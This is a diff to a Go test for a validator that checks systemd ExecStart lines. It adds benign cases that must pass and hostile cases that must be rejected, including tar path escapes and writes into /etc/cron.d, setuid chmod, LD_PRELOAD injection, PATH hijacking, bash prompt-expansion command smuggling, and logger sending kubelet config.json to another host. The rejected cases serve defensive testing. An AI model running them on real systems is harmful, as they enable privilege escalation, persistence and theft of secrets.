@@ -79,6 +79,38 @@ func TestChangedLinesRunOnlyModeledOwnOrGrantedPrograms(t *testing.T) {
 		{`ExecStart=/usr/bin/ionice -c 1 /usr/bin/myapp`, "real-time I/O class"},
 		{`ExecStart=/usr/bin/chrt 99 /usr/bin/myapp`, "real-time policy"},
 		{`ExecStart=/usr/bin/chrt -f 99 /usr/bin/myapp`, "chrt -f"},
+		// Archives whose names escape their directory; the archive a writer creates is written.
+		{`ExecStart=/usr/bin/tar -xPf /etc/myapp/a.tar -C /var/lib/myapp`, "tar -P"},
+		{`ExecStart=/usr/bin/tar --absolute-names -xf /etc/myapp/a.tar -C /var/lib/myapp`, "tar -P"},
+		{`ExecStart=/usr/bin/tar xPf /etc/myapp/a.tar -C /var/lib/myapp`, "tar -P"},
+		{`ExecStart=/usr/bin/tar -cf /usr/local/bin/x /var/lib/myapp`, "/usr/local/bin/x"},
+		{`ExecStart=/usr/bin/tar -cf /etc/cron.d/x /var/lib/myapp`, "/etc/cron.d/x"},
+		{`ExecStart=/usr/bin/cpio -i -D /var/lib/myapp`, "cpio writes the archive's names"},
+		{`ExecStart=/usr/bin/unzip -: /etc/myapp/a.zip -d /var/lib/myapp`, "unzip -:"},
+		// Set-ID modes, the clock and the name.
+		{`ExecStart=/usr/bin/chmod u+s /var/lib/myapp/x`, "set-user-ID"},
+		{`ExecStart=/usr/bin/chmod 4755 /var/lib/myapp/x`, "set-user-ID"},
+		{`ExecStart=/usr/bin/install -m 2755 /usr/share/myapp/x /var/lib/myapp/x`, "set-user-ID"},
+		{`ExecStart=/usr/bin/date -s 2000-01-01`, "clock or name"},
+		{`ExecStart=/usr/bin/date 010100002000`, "clock or name"},
+		{`ExecStart=/usr/bin/hostname evil`, "clock or name"},
+		{`ExecStart=/usr/bin/chcon -t bin_t /var/lib/myapp/x`, "runs /usr/bin/chcon"},
+		// Daemons that serve the node or run its files; secrets to another host; code in variables.
+		{`ExecStart=/usr/bin/python3 -m http.server --cgi`, "http.server"},
+		{`ExecStart=/usr/bin/logger -n 192.0.2.1 -f /var/lib/kubelet/config.json`, "logger -n"},
+		{`ExecStart=/usr/bin/systemd-run --scope --setenv=LD_PRELOAD=/etc/myapp/x.so /usr/bin/true`, "LD_PRELOAD"},
+		// The shell's search path and text that becomes code.
+		{`ExecStart=/bin/sh -c 'for PATH in /tmp; do cat; done'`, "sets PATH"},
+		{`ExecStart=/bin/bash -c 'read PATH < /etc/myapp/app.conf; cat'`, "sets PATH"},
+		{`ExecStart=/bin/bash -c 'printf -v PATH /tmp; cat'`, "sets PATH"},
+		{`ExecStart=/bin/bash -c 'unset PATH; cat'`, "sets PATH"},
+		{`ExecStart=/bin/bash -c 'x="$(/usr/bin/foo)"; echo ${x@P}'`, "/usr/bin/foo"},
+		{`ExecStart=/bin/bash -c "x='\$(/usr/bin/foo)'; echo \${x@P}"`, "/usr/bin/foo"},
+		{`ExecStart=/bin/bash -c "x='a[\$(/usr/bin/foo)]'; echo \$((x))"`, "/usr/bin/foo"},
+		{`ExecStart=/bin/bash -c 'x=1; echo ${x@P}'`, "prompt expansion"},
+		// Shells whose syntax is not POSIX sh's.
+		{`ExecStart=/usr/bin/zsh -c 'x="\$(/usr/bin/foo)"; echo ${(e)x}'`, "zsh"},
+		{`ExecStart=/usr/bin/fish -c 'echo ok'`, "runs /usr/bin/fish"},
 		// Names are the model's exactly.
 		{`ExecStart=/usr/local/bin/ENV /usr/bin/myapp`, "runs /usr/local/bin/ENV"},
 		{`ExecStart=/usr/bin/systemd-run --scope /usr/bin/foo`, "/usr/bin/foo"},
@@ -177,6 +209,17 @@ func TestChangedLinesRunOnlyModeledOwnOrGrantedPrograms(t *testing.T) {
 		`ExecStart=/usr/bin/systemd-run --scope /usr/bin/myapp`,
 		`ExecStart=/usr/bin/echo ok`,
 		`ExecStartPre=/usr/bin/mkdir -p /var/lib/myapp`,
+		`ExecStartPre=/usr/bin/mkdir -m 0750 -p /var/lib/myapp`,
+		`ExecStartPre=/usr/bin/chmod 0640 /var/lib/myapp/x`,
+		`ExecStartPre=/usr/bin/chmod -R u+rwX,go-w /var/lib/myapp`,
+		`ExecStartPre=/usr/bin/tar -xzf /etc/myapp/a.tgz -C /var/lib/myapp`,
+		`ExecStartPre=/usr/bin/tar -czf /var/lib/myapp/backup.tgz /etc/myapp`,
+		`ExecStartPre=/usr/bin/cpio -i --no-absolute-filenames -D /var/lib/myapp`,
+		`ExecStartPre=/usr/bin/date +%s`,
+		`ExecStartPre=/usr/bin/hostname -f`,
+		`ExecStartPre=/usr/bin/logger -t myapp starting`,
+		`ExecStart=/bin/bash -c 'for f in /etc/myapp/*.conf; do read -r line < "$f"; echo "$line"; done'`,
+		`ExecStart=/bin/sh -c 'echo "$(date)"; x=$((1+2)); echo ${x:-0}'`,
 	}
 	for _, l := range shapes {
 		assert.NoError(t, judgeChanged(t, own, nil, l), "own: %s", l)
